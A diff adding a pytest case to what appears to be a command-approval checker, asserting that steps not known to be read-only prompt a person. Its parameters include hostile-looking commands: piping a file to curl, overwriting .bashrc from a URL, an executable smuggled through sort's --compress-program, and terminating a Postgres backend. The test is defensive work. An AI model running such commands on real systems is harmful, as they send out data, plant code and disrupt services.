@@ -78,6 +78,29 @@ def test_a_blanket_yes_covers_no_destruction_and_no_decision(write: Write, opene
     ]
 
 
+@pytest.mark.parametrize(
+    "step",
+    [
+        {"command": ["./grep", "x"], "risk": "reads"},
+        {"command": ["python", "-c", "pass"], "risk": "reads"},
+        {"shell": "true", "risk": "reads"},
+        {"command": ["sort", "--compress-program=./evil", "a"], "risk": "reads"},
+        {"command": ["kubectl", "--kubeconfig=evil.yaml", "get", "pods"], "risk": "reads"},
+        {"pipe": [["cat", "a"], ["curl", "-fG", "http://a", "--data-urlencode", "x@-"]]},
+        {"command": ["curl", "-f", "-o", ".bashrc", "http://a"]},
+        {"command": ["redis-cli", "eval", "get"]},
+        {"command": ["psql", "-c", "SELECT pg_terminate_backend(1)"]},
+    ],
+)
+def test_what_is_not_known_to_only_look_is_asked_for(
+    write: Write, opened: Open, step: dict[str, Any]
+) -> None:
+    write(procedure(step, LOOK))
+    person = Told({"s1": ["skip"]})
+    go(opened(), person)
+    assert [asked for asked, *_ in person.asked] == ["s1"]
+
+
 def test_a_no_stops_and_the_same_command_goes_on_there(
     write: Write, opened: Open, tmp_path: Path
 ) -> None:
